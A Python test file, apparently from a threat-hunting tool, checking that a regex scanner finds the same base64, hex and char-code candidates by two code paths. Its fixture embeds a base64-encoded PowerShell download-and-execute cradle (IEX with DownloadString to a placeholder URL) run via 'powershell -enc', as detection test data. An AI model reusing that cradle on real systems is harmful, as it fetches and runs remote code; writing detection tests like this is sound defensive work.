"""The candidate scan: the direct RE2 path finds what google-re2's public finditer finds."""

from __future__ import annotations

import base64

from hypothesis import given, settings
from hypothesis import strategies as st

from huntbook.analysis.decode import finders
from huntbook.analysis.decode.unpack import worth_decoding

PAYLOAD = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le"))
TEXT = (
    "2026-11-10T00:00:01Z --time-ticks-at-unix-epoch=1 ProtectionStateChanged é "
    f"powershell -enc {PAYLOAD.decode()} 68656c6c6f20776f726c6421 [char]72+[char]105+[char]33\n"
) * 3


def public_spans(data: bytes) -> list[tuple[int, int]]:
    return [match.span() for match in finders._REGEX.finditer(data)]


def test_direct_scan_matches_the_public_finditer():
    data = TEXT.encode()
    assert list(finders._spans(data)) == public_spans(data)
    assert len(public_spans(data)) >= 9


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("Aa0+/=_-%\\x[]char(),. \n\r\té"), max_size=300))
def test_direct_scan_matches_the_public_finditer_on_any_text(text):
    data = text.encode("utf-8", "surrogatepass")
    assert list(finders._spans(data)) == public_spans(data)


def test_without_the_compiled_pattern_the_public_finditer_is_used(monkeypatch):
    class Wrapped:
        """What a google-re2 without the private attribute would look like."""

        finditer = finders._REGEX.finditer

    expected = list(finders.find_candidates(TEXT, worth_decoding))
    monkeypatch.setattr(finders, "_REGEX", Wrapped())
    assert list(finders.find_candidates(TEXT, worth_decoding)) == expected
    assert {c.kind for c in expected} == {"base64", "hex", "charcodes"}


def test_repeated_runs_get_one_verdict_and_keep_their_own_offsets():
    found = list(finders.find_candidates(TEXT, worth_decoding))
    assert len(found) == 9
    line = len(TEXT) // 3
    for first, later in zip(found[:3], found[3:6], strict=True):
        assert (later.kind, later.raw) == (first.kind, first.raw)
        assert (later.start - first.start, later.end - first.end) == (line, line)
        assert TEXT[first.start : first.end].encode() == first.raw


def test_given_utf8_is_used_as_the_scanned_bytes():
    data = TEXT.encode("utf-8")
    assert list(finders.find_candidates(TEXT, utf8=data)) == list(finders.find_candidates(TEXT))
